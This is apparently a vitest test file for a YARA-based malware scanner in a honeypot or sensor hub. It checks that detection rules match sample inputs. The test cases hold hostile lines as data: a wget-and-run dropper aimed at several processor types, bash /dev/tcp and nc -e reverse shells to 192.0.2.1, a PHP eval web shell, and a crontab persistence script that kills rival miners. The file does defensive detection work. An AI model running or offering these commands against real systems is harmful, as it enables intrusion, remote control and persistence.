import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { createHash } from 'node:crypto'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { member } from '@skep/hub/testing'
import { uuidv7 } from '@skep/vocabulary'
import { sharingHub } from '../testing.ts'
import { readRules, Yara } from './yara.ts'

const folder = mkdtempSync(join(tmpdir(), 'skep-yara-'))
const yara = new Yara(folder)
afterAll(() => yara.stop())

const elf = (text: string): Buffer => {
  const bytes = Buffer.alloc(256)
  bytes.write('\x7fELF', 'latin1')
  bytes[4] = 1
  bytes[5] = 1
  bytes.writeUInt16LE(2, 16)
  bytes.writeUInt16LE(40, 18)
  return Buffer.concat([bytes, Buffer.from(text, 'latin1')])
}
const met = async (bytes: Buffer): Promise<string[]> => (await yara.scan(bytes)).map(({ rule }) => rule).sort()

describe('our rules', () => {
  test.each<[string, Buffer, string[]]>([
    [
      'a dropper for many processors',
      Buffer.from(
        '#!/bin/sh\nfor a in mips mpsl arm7 x86 sh4; do wget http://192.0.2.1/b.$a; chmod 777 b.$a; ./b.$a; done\n',
      ),
      ['script_fetches_and_runs', 'script_many_processors'],
    ],
    [
      'a scanner of small devices',
      elf('/bin/busybox TEST\0: applet not found\0ncorrect\0ogin\0assword\0enable\0system\0'),
      ['iot_scanner_telnet'],
    ],
    [
      'settings of a miner',
      Buffer.from('{"pools":[{"url":"stratum+tcp://pool.example.net:3333"}],"donate-level":1,"algo":"rx/0"}'),
      ['miner'],
    ],
    ['a reverse shell', Buffer.from('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'), ['reverse_shell']],
    ['a web shell', Buffer.from('<?php @eval($_POST["x"]);'), ['webshell_php']],
    [
      'what ends rivals and stays',
      Buffer.from('#!/bin/bash\npkill -9 xmrig\n(crontab -l; echo "* * * * * /tmp/x") | crontab -\n'),
      ['script_removes_rivals', 'script_stays'],
    ],
  ])('%s', async (_name, bytes, rules) => {
    expect(await met(bytes)).toEqual(rules)
  })

  test('harmless files meet none', async () => {
    for (const file of [process.execPath, '/bin/sh', '/etc/passwd'])
      expect(await met(readFileSync(file).subarray(0, 8 << 20)), file).toEqual([])
    expect(await met(Buffer.from('#!/bin/sh\necho hello\n'))).toEqual([])
    expect(await met(Buffer.alloc(0))).toEqual([])
  })
})

test('an operator’s rules are taken as they change; a file that is none harms no other', async () => {
  const before = await yara.rules()
  writeFileSync(
    join(folder, 'own.yar'),
    'rule own : mine { meta: description = "Ours" attack = "T1001" strings: $a = "straw" condition: $a }',
  )
  writeFileSync(join(folder, 'broken.yara'), 'rule broken { strings: $a = ')
  writeFileSync(join(folder, 'slow.yar'), 'rule slow { strings: $a = /(a+)+b/ condition: #a > 100000 }')
  writeFileSync(join(folder, 'notes.txt'), 'no rule')
  expect(await yara.scan(Buffer.from('a straw'))).toEqual([
    { rule: 'own', file: 'own', tags: ['mine'], description: 'Ours', attack: 'T1001' },
  ])
  expect(yara.state.mark).not.toBe(before)
  expect(yara.state.problems.map(({ file }) => file)).toEqual(['broken'])
  expect(readRules(folder).files.map(({ name }) => name)).toEqual(['skep', 'broken', 'own', 'slow'])
  // What explodes elsewhere is bounded here, and the next file has its turn.
  await yara.scan(Buffer.alloc(4 << 20, 'a')).catch(() => undefined)
  expect(await met(Buffer.from('straw'))).toEqual(['own'])
}, 40_000)

describe('on a hub', () => {
  let house: Awaited<ReturnType<typeof sharingHub>>
  beforeAll(async () => {
    house = await sharingHub()
  }, 60_000)
  afterAll(() => house.stop())

  test('an artifact’s facts tell which rules it meets', async () => {
    const bytes = Buffer.from('#!/bin/sh\nnc -e /bin/sh 192.0.2.1 4444\n')
    const sha256 = createHash('sha256').update(bytes).digest('hex')
    const straw = await member(house.hub, 'yara-straw')
    const boot = uuidv7()
    await straw.ask('PUT', `/gateway/v1/blobs/${sha256}`, bytes)
    await straw.deliver(boot, [
      {
        id: uuidv7(),
        sensor: 'yara-straw',
        boot,
        seq: 0,
        time: new Date().toISOString().replace('Z', '000Z'),
        session: uuidv7(),
        service: 'ssh',
        transport: 'tcp',
        source: { ip: '1.1.1.5', port: 1 },
        target: { port: 22 },
        kind: 'artifact.stored',
        data: { sha256, size: bytes.length },
      },
    ])
    const token = await house.hub.relational.tokens.create('operator', 'test')
    const ask = async (path: string): Promise<unknown> =>
      (await fetch(`${house.hub.url}/api/v1/${path}`, { headers: { authorization: `Bearer ${token}` } })).json()
    expect(await ask(`artifacts/${sha256}/facts`)).toMatchObject({
      type: 'script, sh',
      yara: [{ rule: 'reverse_shell', attack: 'T1059' }],
      yara_problem: '',
    })
    expect(await ask('yara')).toMatchObject({ problems: [], met: [{ rule: 'reverse_shell', artifacts: 1 }] })
  })
})
